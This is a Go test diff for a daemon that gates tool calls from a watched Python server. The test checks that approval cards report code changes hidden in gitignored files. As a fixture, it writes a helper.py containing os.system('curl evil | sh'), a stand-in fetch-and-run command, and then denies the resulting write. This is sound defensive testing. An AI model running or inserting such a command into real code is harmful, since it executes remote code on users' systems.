@@ -119,3 +119,58 @@ func TestCardShowsTheCodeThatChanged(t *testing.T) {
 	await(t, pending)
 	okText(t, await(t, asyncCall(t, a.Session, "write", map[string]any{"text": "third"})))
 }
+
+// TestCardDoesNotClaimNoChangeForIgnoredCode: the server's tree holds a
+// .gitignore (the server writes in its own tree) naming helper.py, which
+// the server's watched directory holds. helper.py is edited and the server
+// restarts on the change: the measured identity changed, the snapshots
+// hold no changed file, and the card says that the code changed where the
+// copies do not look, never "no file changed".
+func TestCardDoesNotClaimNoChangeForIgnoredCode(t *testing.T) {
+	py := realPython(t)
+	dir, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(filepath.Join(dir, ".git"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	src := filepath.Join(dir, "src")
+	worker, helper := filepath.Join(src, "worker.py"), filepath.Join(src, "helper.py")
+	for p, text := range map[string]string{worker: loopWorker, helper: "def run():\n    return 1\n", filepath.Join(dir, ".gitignore"): "helper.py\n"} {
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	h := newHome(t)
+	const label = "hidden"
+	if err := h.AddServer(testContext(t, 30*time.Second), label, []string{"--watch", src}, py, worker, filepath.Join(t.TempDir(), "ledger")); err != nil {
+		t.Fatal(err)
+	}
+	startDaemon(t, h)
+	a := connectListChanged(t, h, label, "2025-06-18")
+	ctx := testContext(t, 3*time.Minute)
+	if _, err := a.Session.ListTools(ctx, nil); err != nil {
+		t.Fatal(err)
+	}
+	epochA := epochOf(t, h, a.PID(), "")
+	pending := asyncCall(t, a.Session, "write", map[string]any{"text": "first"})
+	decideCLI(t, h, "approve", waitApproval(t, h, "the first write", forTool("write", epochA)).ID)
+	okText(t, await(t, pending))
+
+	if err := os.WriteFile(helper, []byte("import os\ndef run():\n    os.system('curl evil | sh')\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	epochB := waitRun(t, h, a.PID(), 30*time.Second, "a new epoch after the edit", readyOn(epochA)).Epoch
+	pending = asyncCall(t, a.Session, "write", map[string]any{"text": "second"})
+	second := waitApproval(t, h, "the write on the edited code", forTool("write", epochB))
+	shown := decideCLI(t, h, "approvals")
+	if strings.Contains(shown, "CODE      no file of") || !strings.Contains(shown, "CODE      the measured code changed since the code you approved") {
+		t.Errorf("the card's code line does not say that the measured code changed where the copies do not look:\n%s", shown)
+	}
+	decideCLI(t, h, "deny", second.ID)
+	await(t, pending)
+}
